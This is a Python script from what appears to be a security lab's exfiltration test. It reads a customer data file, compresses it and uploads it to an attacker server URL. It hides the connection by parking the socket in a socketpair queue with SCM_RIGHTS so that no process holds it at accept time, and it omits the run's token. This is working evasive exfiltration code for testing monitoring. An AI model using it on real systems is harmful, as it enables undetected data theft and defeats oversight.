# lab:title: Upload the customer data from a socket parked in flight
# lab:threat: exfil
# lab:layer: network
# lab:consequence: The customer list is on the attacker's server, sent from a socket that no process of the run held when the connection was accepted.
"""Exfiltration that parks its socket in flight (issue 17, item 2).

Right after connect() (non-blocking: the kernel ends the handshake) the socket is sent over a socketpair (SCM_RIGHTS) and
closed: while the lab's listener accepts the connection, the socket sits in
the pair's queue, in no process's descriptor table. A moment later the
snippet takes it back and sends the customer data compressed, without the
run's token in the URL, so that nothing in the bytes names the run either.
Prints what it sent and the server's answer.
"""
import errno
import os
import socket
import sys
import time
import urllib.parse
import zlib


def main():
    data_path = os.environ.get("LAB_DATA")
    url = os.environ.get("LAB_ATTACKER")
    if not data_path or not url:
        print("LAB_DATA or LAB_ATTACKER is not set", flush=True)
        return 1
    with open(data_path, "rb") as f:
        body = zlib.compress(f.read(1024 * 1024), 9)
    u = urllib.parse.urlsplit(url)
    a, b = socket.socketpair()
    s = socket.socket()
    s.setblocking(False)  # park it while the handshake is still under way
    err = s.connect_ex((u.hostname, u.port or 80))
    if err not in (0, errno.EINPROGRESS):
        print(f"connect failed: {os.strerror(err)}", flush=True)
        return 1
    socket.send_fds(a, [b"p"], [s.fileno()])
    s.close()  # now only the pair's queue holds it
    time.sleep(0.5)
    _, fds, _, _ = socket.recv_fds(b, 1, 1)
    s = socket.socket(fileno=fds[0])
    s.settimeout(3)
    try:
        head = (f"POST /upload HTTP/1.1\r\nHost: {u.hostname}\r\n"
                f"Content-Type: application/octet-stream\r\n"
                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n")
        s.sendall(head.encode() + body)
        answer = s.recv(4096).split(b"\r\n", 1)[0]
    except OSError as e:
        print(f"upload failed after parking the socket: {e}", flush=True)
        return 1
    print(f"sent {len(body)} compressed bytes from a socket parked in "
          f"flight at accept time: "
          f"{answer.decode('ascii', 'replace')}",
          flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
